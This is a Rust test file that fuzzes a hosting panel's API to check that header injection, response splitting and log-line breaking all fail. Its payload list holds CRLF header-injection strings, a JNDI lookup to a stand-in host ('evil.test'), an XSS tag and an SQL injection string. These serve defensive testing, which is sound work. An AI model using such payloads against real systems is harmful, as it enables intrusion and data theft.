//! Headers with line breaks and worse: no header of theirs in an answer, no line of theirs in a log, nobody logged in.

use crate::host;
use crate::http::{Answer, Credential, call, call_with, raw};
use crate::object::Relation;
use crate::report::Report;
use crate::world::World;
use serde_json::json;

/// What is put into values. `injected` must appear in no head of an answer.
fn values() -> Vec<Vec<u8>> {
    let texts = [
        "a\r\nx-injected: 1",
        "a\nx-injected: 1",
        "a\rx-injected: 1",
        "a\r\n\r\nHTTP/1.1 200 OK\r\nx-injected: 1\r\n\r\n",
        "a\r\n x-injected: folded",
        "a%0d%0ax-injected:%201",
        "a%0ax-injected:1",
        "a\\r\\nx-injected: 1",
        "a\u{010a}x-injected: 1",
        "a\u{560a}x-injected: 1",
        "a\u{2028}x-injected: 1",
        "a\0x-injected: 1",
        "a\tb",
        "\u{7f}",
        "${jndi:ldap://evil.test/x}",
        "<script>alert(1)</script>",
        "' OR '1'='1",
        "{\"role\":\"root\"}",
        "",
    ];
    let mut values: Vec<Vec<u8>> = texts.iter().map(|text| text.as_bytes().to_vec()).collect();
    values.push(vec![0xff, 0xfe, 0x80]);
    values.push(vec![b'a'; 10_000]);
    values.push(vec![b'a'; 200_000]);
    values
}

const HEADERS: &[&str] = &[
    "Authorization",
    "Cookie",
    "Host",
    "Origin",
    "User-Agent",
    "Content-Type",
    "Content-Length",
    "Transfer-Encoding",
    "Accept",
    "If-Match",
    "Idempotency-Key",
    "X-Request-Id",
    "X-Real-IP",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "Sec-Fetch-Site",
    "Expect",
    "Connection",
    "Upgrade",
    "Range",
    "Accept-Encoding",
    "Traceparent",
];

/// Nothing of the attacker's in the head, no error of ours, and nobody is let in.
fn harmless(answer: &Answer, allowed: &[u16]) -> bool {
    let head = format!("{:?}", answer.headers).to_lowercase();
    answer.status < 500 && !head.contains("injected") && allowed.contains(&answer.status)
}

#[test]
fn line_breaks_in_headers_inject_nothing() {
    let world = World::get();
    let _quiet = world.quiet();
    let mut report = Report::default();
    // 0: the connection was closed without an answer, which is an answer to what is not HTTP.
    let refused = [0, 400, 401, 403, 404, 405, 408, 411, 413, 414, 417, 422, 431];
    for name in HEADERS {
        for value in values() {
            for prefix in ["", "Bearer ", "__Host-wcp360="] {
                let mut request = b"GET /api/v1/session HTTP/1.1\r\nHost: x\r\nConnection: close\r\n".to_vec();
                request.extend(format!("{name}: {prefix}").as_bytes());
                request.extend(&value);
                request.extend(b"\r\n\r\n");
                let answer = raw(&request);
                let text = String::from_utf8_lossy(&value).chars().take(60).collect::<String>();
                report.holds(harmless(&answer, &refused), || format!("{name}: {prefix}{text:?}: {answer:?}"));
            }
        }
    }
    report.equal(|| "the panel afterwards".into(), call(&Credential::Nothing, "GET", "/health", "").status, 200);
    report.end("header fuzz");
}

#[test]
fn line_breaks_in_what_comes_back_inject_nothing() {
    let world = World::get();
    let _quiet = world.quiet();
    let mut report = Report::default();
    let root = &world.tokens[3];
    let account = world.account(Relation::Own);
    for value in values().iter().filter(|value| value.len() < 20_000) {
        let text = String::from_utf8_lossy(value).into_owned();
        let escaped: String = value.iter().map(|byte| format!("%{byte:02x}")).collect();
        for path in [
            format!("/accounts/{escaped}"),
            format!("/jobs/{escaped}"),
            format!("/users/{escaped}"),
            format!("/accounts/{account}/domains/{escaped}"),
            format!("/accounts?search={escaped}"),
            format!("/accounts?cursor={escaped}"),
            format!("/jobs?account={escaped}"),
            format!("/audit?actor={escaped}"),
        ] {
            let answer = call(root, "GET", &path, "");
            let good = harmless(&answer, &[200, 400, 404, 405, 414, 422, 431]);
            report.holds(good, || format!("GET {}: {answer:?}", path.chars().take(120).collect::<String>()));
        }
        for (method, path, body) in [
            ("POST", "/packages".to_owned(), json!({"name": world.fresh(), "description": text})),
            ("POST", "/tokens".into(), json!({"name": text})),
            ("POST", "/users".into(), json!({"username": text, "role": "reseller", "password": "a long password"})),
            ("POST", format!("/accounts/{account}/suspend?dry_run=true"), json!({"reason": text})),
            ("POST", format!("/accounts/{account}/domains?dry_run=true"), json!({"domain": text})),
        ] {
            let answer = call(root, method, &path, &body.to_string());
            let good = harmless(&answer, &[200, 201, 409, 413, 422]);
            report.holds(good, || {
                format!("{method} {path} with {:?}: {answer:?}", text.chars().take(60).collect::<String>())
            });
        }
        for name in ["Idempotency-Key", "If-Match"] {
            let line = format!("{name}: {text}\r\n");
            let path = format!("/accounts/{account}/domains?dry_run=true");
            let body = json!({"domain": format!("{}.{account}.test", world.fresh())}).to_string();
            let answer = call_with(root, "POST", &path, &body, &line);
            let good = harmless(&answer, &[0, 200, 400, 412, 422, 431]);
            report.holds(good, || format!("{name}: {text:?}: {answer:?}"));
        }
    }
    // Every line of the logs is one entry, whatever was in it.
    for log in ["/var/log/wcp360/core.log", "/var/log/wcp360/audit.json"] {
        let broken = host::sh(&format!("jq -R 'fromjson? // \"broken\"' {log} | grep -c '^\"broken\"$' || true"));
        report.equal(|| format!("broken lines in {log}"), broken.as_str(), "0");
    }
    report.end("values that come back");
}
